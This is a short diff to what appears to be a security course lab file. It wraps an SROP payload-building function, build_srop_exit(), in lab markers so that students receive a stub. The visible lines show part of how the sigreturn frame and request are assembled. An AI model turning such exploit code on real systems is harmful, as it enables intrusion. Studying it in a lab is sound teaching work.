@@ -87,6 +87,7 @@ static unsigned char *put_word(unsigned char *p, unsigned long w)
  */
 size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 {
+	/* LAB attack: BEGIN */
 	struct ucontext64 uc = { 0 };
 	unsigned char *p = req + 4;
 	uint32_t body;
@@ -111,6 +112,11 @@ size_t build_srop_exit(unsigned char *req, size_t size, const struct gadgets *g)
 	memcpy(req, &body, 4);
 	memcpy(p, "fifteen bytes!\n", NR_RT_SIGRETURN);
 	return p + NR_RT_SIGRETURN - req;
+	/* LAB attack: STUB
+	printf("LAB TODO: user/attack/attack_payload.c: build_srop_exit() is yours to write "
+	       "(docs/labs/07-attack.md)\n");
+	return 0;
+	   LAB attack: END */
 }
 
 /* The request of fixed-ret: body_len bytes, every word of them the address of a vsyscall entry. */
